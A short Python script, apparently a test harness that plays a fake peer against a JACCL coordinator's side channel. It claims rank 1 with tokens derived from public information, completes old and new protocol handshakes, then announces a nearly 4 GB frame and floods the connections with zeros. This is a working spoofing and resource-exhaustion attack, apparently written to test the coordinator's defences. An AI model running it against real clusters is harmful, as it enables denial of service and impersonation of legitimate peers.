"""A fake JACCL side-channel peer: claims rank 1 at the coordinator with the tokens public
information gives, then announces a 0xFFFFFFF0-byte frame and streams zeros.
argv: coordinator devices-json seconds"""
import json
import struct
import sys
import time
import zlib

from common import connect, jaccl_context, jaccl_context_v2, new_handshake, old_hello, old_jaccl_token

coordinator, devices, seconds = sys.argv[1], json.loads(sys.argv[2]), float(sys.argv[3])
PURPOSE_SIDE_CHANNEL = 0x4A43
old = connect(coordinator)
old.sendall(old_hello(PURPOSE_SIDE_CHANNEL, 1, 0, 0, old_jaccl_token(coordinator, devices)))
streams = [old]
# the new protocol with an earlier version's context, then today's for the first group formed
for context in (jaccl_context(coordinator, devices), jaccl_context_v2(coordinator, devices, 1)):
    new = connect(coordinator)
    print("OUTCOME new-protocol", new_handshake(new, PURPOSE_SIDE_CHANNEL, 1, 0, 0, context, zlib.crc32(context)),
          flush=True)
    streams.append(new)
zeros = bytes(1 << 20)
end = time.monotonic() + seconds
sent = 0
for s in streams:
    try:
        s.sendall(struct.pack("<I", 0xFFFFFFF0))
    except OSError:
        pass
while time.monotonic() < end:
    for s in streams:
        try:
            s.setblocking(False)
            sent += s.send(zeros)
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            pass
    time.sleep(0.001)
print("SENT", sent, flush=True)
